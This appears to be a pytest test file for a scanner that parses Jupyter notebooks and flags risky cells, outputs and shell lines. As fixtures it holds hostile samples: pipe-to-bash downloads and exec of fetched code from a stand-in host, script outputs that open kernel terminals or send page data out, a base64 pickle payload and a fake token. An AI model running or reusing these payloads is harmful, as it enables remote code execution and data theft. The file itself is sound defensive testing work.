"""Notebooks: cells, magics, shell lines, outputs; where each of them stands; broken ones."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import pickles
from checks.test_training import audited
from weighbridge.core.document import Malformed
from weighbridge.core.finding import Action
from weighbridge.core.format import Limits, Sample
from weighbridge.core.location import Location
from weighbridge.core.tree import Blob, Held
from weighbridge.engine.examine import examine
from weighbridge.engine.ruleset import load
from weighbridge.formats.notebook import JUPYTER, Notebook


def code(*lines: str, outputs: list[Any] | None = None) -> dict[str, Any]:
    source = [line + "\n" for line in lines]
    return {"cell_type": "code", "source": source, "outputs": outputs or [], "metadata": {}}


def html(text: str, mime: str = "text/html") -> list[Any]:
    return [{"output_type": "display_data", "data": {mime: [text]}}]


def notebook(*cells: dict[str, Any], **more: Any) -> str:
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, **more})


def read(text: str) -> Notebook:
    blob = Held("a.ipynb", text.encode())
    assert JUPYTER.sniff(Sample(blob))
    assert JUPYTER.parse is not None
    document = JUPYTER.parse(blob, Location("a.ipynb"), Limits())
    assert isinstance(document, Notebook)
    return document


def said(*cells: dict[str, Any], path: str = "a.ipynb") -> set[tuple[str, str]]:
    findings, _, _ = audited({path: notebook(*cells)})
    return {(f.check, f.action.value) for f in findings if f.action is not Action.NOTE}


def test_cells_become_one_program_with_their_places() -> None:
    made = read(
        notebook(
            {"cell_type": "markdown", "source": "# Title"},
            code("%matplotlib inline", "import pickle, requests", "for x in y:", "    !ls {x}"),
            code("%%time", "r = requests.get(u)"),
            code("names = !ls", "pickle.loads(r.content)", "?help"),
        )
    )
    assert made.gaps == ()
    (program,) = made.programs
    assert "import pickle, requests" in program.source.text
    lines = program.source.text.split("\n")
    at = lines.index("pickle.loads(r.content)") + 1
    assert program.place(at) == Location("a.ipynb", ("cell 4",), line=2)
    assert [(s.cell, s.line, s.text) for s in made.shells] == [(2, 4, "ls {x}"), (4, 1, "ls")]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (code("!pip install git+https://github.com/other/x"), ("run-time-install", "block")),
        (code("%pip install -q git+https://github.com/other/x.git@main"),
         ("run-time-install", "block")),
        (code("%%bash", "set -e", "pip install --index-url http://h.io/simple x"),
         ("run-time-install", "block")),
        (code("!pip install a \\", "  git+https://github.com/other/x"),
         ("run-time-install", "block")),
        (code("!wget -qO- http://h.io/x.sh | bash"), ("fetched-code", "block")),
        (code("#@title A form", "", "%%bash", "wget -qO- http://h.io/x.sh | bash"),
         ("fetched-code", "block")),
        (code("get_ipython().system('pip install git+https://github.com/other/x')"),
         ("run-time-install", "block")),
        (code("import requests", "exec(requests.get(u).text)"), ("fetched-code", "block")),
        (code("%%writefile run.py", "import requests", "exec(requests.get(u).text)"),
         ("fetched-code", "block")),
        (code("%%capture", "import os", "os.system('pip install --trusted-host h.io x==1')"),
         ("run-time-install", "block")),
        (code("x", outputs=html("<script>fetch('/api/terminals',{method:'POST'})</script>")),
         ("notebook-output", "block")),
        (code("x", outputs=html("IPython.notebook.kernel.execute(\"import os; os.system('id')\")",
                                "application/javascript")), ("notebook-output", "block")),
        (code("x", outputs=html("<img src=x onerror=\"fetch('https://h.io/'+document.title)\">")),
         ("notebook-output", "review")),
        (code("%%html", "<script>new WebSocket('wss://h.io')</script>"),
         ("notebook-output", "review")),
    ],
)  # fmt: skip
def test_what_a_notebook_must_not_do(cell: dict[str, Any], expected: tuple[str, str]) -> None:
    assert said(cell) == {expected}
    assert said({"cell_type": "raw", "source": cell["source"]}) == set()


@pytest.mark.parametrize(
    "cell",
    [
        code("!pip install transformers"),
        code("%pip install -q x==1.0 y"),
        code("# !pip install git+https://github.com/other/x"),
        code("!nvidia-smi"),
        code("text = '''", "!pip install git+https://github.com/other/x", "'''"),
        code("#@markdown A form", "%%html", "<audio src='https://h.io/a.m4a' controls>"),
        code("x % y", "print('100%')", "a = b if c else d  # why?"),
        code("await f()"),
        code("x", outputs=html("<table><tr><td>1</td></tr></table>")),
        code("x", outputs=html("<script>require(['plotly'],function(p){p.newPlot()})</script>")),
        code("x", outputs=html("<script>google.colab.kernel.invokeFunction('show', [k], {})"
                               "</script>")),
        code("x", outputs=[{"output_type": "stream", "text": ["fetch('/api/terminals')"]}]),
    ],
)  # fmt: skip
def test_what_real_notebooks_do_is_quiet(cell: dict[str, Any]) -> None:
    assert said(cell) == set()


def test_examples_are_one_step_lower() -> None:
    cell = code("!pip install git+https://github.com/other/x")
    assert said(cell, path="examples/a.ipynb") == {("run-time-install", "review")}


def test_names_go_from_cell_to_cell() -> None:
    first, second = (
        code("import requests as r"),
        code("c = r.get(u).text"),
    )
    findings, _, _ = audited({"a.ipynb": notebook(first, second, code("", "exec(c)"))})
    found = next(f for f in findings if f.check == "fetched-code")
    assert found.at == Location("a.ipynb", ("cell 3",), line=2)


def test_version_three_is_read() -> None:
    cell = {
        "cell_type": "code",
        "language": "python",
        "input": ["!pip install git+https://x.io/y"],
        "outputs": [{"output_type": "display_data", "html": ["<script>1</script>"]}],
    }
    text = json.dumps({"nbformat": 3, "worksheets": [{"cells": [cell]}]})
    made = read(text)
    assert (len(made.shells), len(made.outputs), made.cells) == (1, 1, 1)


def test_what_cannot_be_read_is_a_gap() -> None:
    about = {"kernelspec": {"language": "julia"}}
    gaps = [
        (g.kind.value, g.at.inside)
        for text in (
            notebook(code("def (:"), code("x = 1")),
            notebook(code("%%R", "plot(x)")),
            notebook(code("println(1)"), metadata=about),
        )
        for g in read(text).gaps
    ]
    assert gaps == [
        ("malformed", ("cell 1",)),
        ("unsupported", ("cell 1",)),
        ("unsupported", ("cell 1",)),
    ]


def test_a_payload_in_a_cell_is_examined() -> None:
    carried = base64.b64encode(pickles.RUNS).decode()
    blob = Held("a.ipynb", notebook(code(f"data = '{carried}'")).encode())
    findings = examine(blob, load(), Limits()).findings
    assert ("pickle-acting-call", "block") in {(f.check, f.action.value) for f in findings}


def test_a_credential_in_an_output_is_found() -> None:
    token = "hf_" + "QmZkTwRbXvLpYsNcHjGdFqWzKtMxBnVrPs"
    blob = Held("a.ipynb", notebook(code("x", outputs=html(token))).encode())
    assert "secret" in {f.check for f in examine(blob, load(), Limits()).findings}


@pytest.mark.parametrize(
    "text",
    [
        '{"cells": [1, null, {"cell_type": "code"}], "x": "\\"cell_type\\": \\"code\\""}',
        '{"cells": {"a": 1}, "cell_type": "code"}',
        '{"cell_type": "code", "cells": [{"cell_type": "code", "source": 5, "outputs": 7}]}',
        '{"cell_type": "code", "cells": [' + "[" * 3_000,
        '{"cell_type": "code", "worksheets": [{"cells": [{"cell_type": "code", "input": null}]}]}',
        '{"cell_type": "code", "cells": [{"cell_type": "code", "source": "x", "n": NaN}]}',
        '{"cell_type": "code", "cells": [], "metadata": {"language_info": {"name": 3}}}',
    ],
)
def test_broken_notebooks(text: str) -> None:
    assert JUPYTER.parse is not None
    try:
        JUPYTER.parse(Held("a.ipynb", text.encode()), Location("a.ipynb"), Limits())
    except Malformed as error:
        assert error.why


LINE = st.one_of(
    st.sampled_from(
        ["!ls", "%%bash", "%pip install x", "import os", "'''", "x = !a \\", "  y", "?z", "%%time"]
    ),
    st.text(max_size=30),
)


@given(st.lists(st.lists(LINE, max_size=6), max_size=5))
@settings(max_examples=80, deadline=3000)
def test_any_cells(cells: list[list[str]]) -> None:
    """Whatever stands in the cells: it is read, and every line has its place in a cell."""
    made = read(notebook(code("x = 1"), *(code(*lines) for lines in cells)))
    for program in made.programs:
        for line in range(1, program.source.text.count("\n") + 2):
            at = program.place(line)
            assert 1 <= int(at.inside[-1].removeprefix("cell ")) <= made.cells
            assert at.line is not None
            assert at.line >= 1
    for member in made.walk():
        assert not isinstance(member, Blob) or member.path
